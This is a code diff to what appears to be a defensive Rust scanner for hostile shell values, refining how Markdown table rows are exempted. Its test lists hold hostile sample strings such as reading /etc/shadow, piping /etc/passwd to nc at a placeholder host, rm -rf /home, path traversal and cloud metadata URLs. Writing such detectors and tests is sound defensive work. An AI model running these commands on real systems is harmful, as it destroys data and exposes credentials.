@@ -86,13 +86,8 @@ pub(super) fn scan(cell: &Cell, sink: &mut Sink<'_>) {
 }
 
 fn is_hostile(value: &str) -> bool {
-    // It has the signs of a shell as well.
-    let row_of_table = value.len() > 1 && value.starts_with('|') && value.ends_with('|');
-    if row_of_table {
-        return false;
-    }
     reads(value)
-        || chained(value)
+        || chained(value) && !is_row(value)
         || climbs(value)
         || escapes(value)
         || wipes(value)
@@ -110,6 +105,18 @@ fn chained(value: &str) -> bool {
         let mut near = words.filter(|w| !w.starts_with('-')).take(ARGUMENTS_MAX);
         name && near.any(|w| is_private_key(w) || matches!(w, "/etc/passwd" | "/etc/sudoers"))
     })
+}
+
+/// A row of a Markdown table, which has the signs of a shell as well: what stands beside a command there is none.
+fn is_row(value: &str) -> bool {
+    let cells = value
+        .strip_prefix("| ")
+        .and_then(|rest| rest.strip_suffix(" |"));
+    let is_command = |cell: &str| {
+        let name = cell.split_whitespace().next().unwrap_or_default();
+        READERS.contains(&name) || RUN.contains(&name)
+    };
+    cells.is_some_and(|cells| cells.contains(" | ") && !cells.split(" | ").all(is_command))
 }
 
 /// The address where a machine in a cloud is told who it is.
@@ -269,7 +276,7 @@ fn escapes(value: &str) -> bool {
     inner("$(") && value.starts_with("$(")
         || value.starts_with('`') && value.ends_with('`') && inner("`")
         || after(';')
-        || after('|')
+        || after('|') && !is_row(value)
         || after('&')
 }
 
@@ -324,6 +331,12 @@ mod tests {
             "host a.tld && cat /etc/shadow",
             "host a.tld; grep -n root /etc/passwd",
             "10.0.0.1 | head /etc/passwd",
+            "|cat /etc/shadow|",
+            "| cat /etc/shadow |",
+            "| cat /etc/passwd | nc a.tld 99 |",
+            "|rm -rf /home|",
+            "|cat ../../../etc/passwd|",
+            "|../../../../etc/passwd|",
             "http://169.254.169.254/latest/user-data",
             "http://metadata.google.internal/computeMetadata/v1/project/project-id",
         ] {
@@ -348,6 +361,7 @@ mod tests {
             "Linux stores accounts in text files; more on /etc/passwd below.",
             "I fed the dog; cat the list and look at /etc/passwd for the shell",
             "| cat /etc/passwd | shows the accounts |",
+            "| type | /etc/passwd | read by cat |",
             "rm -rf ~/.cache/pip",
             "rm -rf /srv/build",
             "rm -r /",
